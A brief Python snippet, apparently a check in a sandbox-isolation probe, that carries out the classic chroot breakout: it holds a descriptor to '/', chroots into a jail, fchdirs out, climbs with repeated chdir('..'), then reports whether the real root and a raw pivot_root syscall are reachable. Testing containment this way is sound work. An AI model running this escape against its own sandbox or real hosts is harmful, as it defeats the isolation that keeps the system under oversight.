# The classic: chroot into a directory while holding one above it, then upwards.
root = os.stat("/")
os.makedirs("/tmp/jail", exist_ok=True)
above = os.open("/", os.O_RDONLY)
os.chroot("/tmp/jail")
os.fchdir(above)
for _ in range(200):
    os.chdir("..")
os.chroot(".")
here = os.stat("/")
tell({"same": (root.st_dev, root.st_ino) == (here.st_dev, here.st_ino), "pivot": call(155, b".", b"."), "listing": sorted(os.listdir("/")) == sorted(os.listdir(above))})
